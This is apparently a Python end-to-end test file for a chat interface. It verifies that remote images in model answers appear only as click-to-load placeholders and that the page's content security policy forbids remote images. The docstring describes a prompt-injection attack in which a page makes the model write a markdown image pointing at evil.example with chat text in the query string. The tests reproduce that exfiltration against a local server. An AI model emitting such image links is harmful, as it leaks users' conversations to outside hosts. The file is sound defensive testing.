"""Remote images in model answers: no request leaves the browser until the user asks for the image.

A prompt-injected page can make the model write ``![x](https://evil.example/p.png?d=<chat text>)``;
rendering it as an <img> would send the chat text to that host. Real Chromium, real server.
"""

from __future__ import annotations

import base64
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from tests.e2e.harness import UI, screenshot
from tests.fakes.providers import FakeOpenAI, Reply

pytestmark = pytest.mark.e2e

PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)


class ImageHost:
    """Another origin serving one image and recording every request it gets."""

    def __init__(self) -> None:
        requests = self.requests = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server's naming
                requests.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(PIXEL)))
                self.end_headers()
                self.wfile.write(PIXEL)

            def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - stdlib signature
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(
            target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        ).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def image_host() -> Iterator[ImageHost]:
    host = ImageHost()
    yield host
    host.close()


def test_an_external_image_is_not_requested_until_clicked(
    ui: UI, fake: FakeOpenAI, image_host: ImageHost
) -> None:
    url = f"http://{image_host.host}/p.png?d=my%20secret%20plans"
    fake.script(Reply(text=f"Here is the chart:\n\n![sales chart]({url})\n\nAnything else?"))
    ui.open().send("Show me the chart")

    expect(ui.assistant()).to_have_attribute("data-status", "success")
    placeholder = ui.answer().locator("a.remote-image")
    expect(placeholder).to_contain_text("sales chart")
    expect(placeholder).to_contain_text(image_host.host)
    expect(ui.answer().locator("img")).to_have_count(0)
    ui.page.wait_for_load_state("networkidle")
    screenshot(ui.page, "remote-image-placeholder")
    assert image_host.requests == []

    # A reload renders the stored answer the same way.
    ui.page.reload()
    expect(ui.answer().locator("a.remote-image")).to_be_visible()
    ui.page.wait_for_load_state("networkidle")
    assert image_host.requests == []

    with ui.page.context.expect_page() as opened:
        ui.answer().locator("a.remote-image").click()
    tab = opened.value
    tab.wait_for_load_state()
    assert image_host.requests[0] == "/p.png?d=my%20secret%20plans"  # (then the tab's favicon)
    tab.close()


def test_the_page_forbids_remote_images_by_default(ui: UI) -> None:
    response = ui.page.goto("/")
    policy = response.headers["content-security-policy"]
    assert "img-src 'self' data:;" in policy + ";" and "https:" not in policy
